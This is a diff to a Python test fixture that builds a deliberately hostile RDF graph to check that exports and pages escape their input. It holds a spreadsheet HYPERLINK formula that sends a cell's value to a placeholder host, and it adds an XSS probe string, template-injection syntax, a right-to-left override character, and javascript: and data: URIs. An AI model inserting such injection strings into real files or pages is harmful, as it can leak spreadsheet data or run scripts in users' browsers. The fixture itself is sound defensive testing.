@@ -1,4 +1,6 @@
-"""A small graph whose names, codes and addresses try to break every format."""
+"""A small graph whose names, codes and addresses try to break every format and every page."""
+
+import json
 
 FORMULA = '=HYPERLINK("http://x.example/?"&A1,"click")'
 CHINESE = "国际岩溶研究中心，\u201c岩溶\u201d | 桂林"
@@ -45,10 +47,29 @@ event:old a sg:Event ; skos:prefLabel ARABIC@en ; sg:start "2019"^^xsd:gYear ; s
 event:undated a sg:Event ; skos:prefLabel "When?"@en .
 """
 
+EVIL = '"><script>alert(1)</script>\u202e{{ 7*7 }} javascript:'
+# beyond what a table or a map can show: very long texts, places outside the world, a centre of which nothing is known
+BEYOND = f"""
+@prefix id: <https://w3id.org/sdggraph/id/> .
+@prefix kind: <https://w3id.org/sdggraph/id/cooperation-kind/> .
+organisation:E a sg:Organisation ; sg:code "E<b>" ; skos:prefLabel {json.dumps(EVIL)}@en ; sg:city {json.dumps(EVIL)} ;
+  org:classification category:category-2 ; foaf:homepage <javascript:alert(1)> ; sg:theme theme:karst ;
+  sg:country country:CHN ; skos:altLabel {json.dumps("n" * 10_000)} , "مركز المياه"@ar ; wgs:lat 91 ; wgs:long 400 .
+organisation:L a sg:Organisation ; sg:code "L" ; skos:prefLabel {json.dumps("long " * 2_000)}@en ;
+  org:classification category:category-2 ; wgs:lat -90 ; wgs:long 180 ; sg:country country:CHN ; sg:theme theme:karst .
+organisation:N a sg:Organisation ; sg:code "N" ; skos:prefLabel "Nothing known"@en ;
+  org:classification category:category-2 .
+organisation:H a sg:Organisation ; sg:code "h" ; skos:prefLabel "A host"@en .
+id:contribution\\/E-1 a sg:Contribution ; sg:contributor organisation:E ; sg:contributesTo sdg:6.5 ;
+  sg:basis basis:stated ; sg:activity {json.dumps(EVIL)}@en ; sg:evidence <javascript:alert(1)> , <https://e.org/x> .
+id:cooperation\\/EL a sg:Cooperation ; sg:partner organisation:E , organisation:L ; sg:cooperationKind kind:agreement ;
+  dcterms:description {json.dumps(EVIL)}@en ; sg:evidence <data:text/html,x> .
+"""
 
-def turtle() -> str:
-    """The graph as Turtle."""
-    text = TURTLE
+
+def turtle(*, beyond: bool = False) -> str:
+    """The graph as Turtle; with `beyond`, also what only pages can show."""
+    text = TURTLE + (BEYOND if beyond else "")
     for name, value in (("FORMULA", FORMULA), ("CHINESE", CHINESE), ("ARABIC", ARABIC), ("QUOTES", QUOTES)):
         escaped = value.replace("\\", "\\\\").replace('"', '\\"')
         text = text.replace(f"{name}@en", f'"{escaped}"@en')
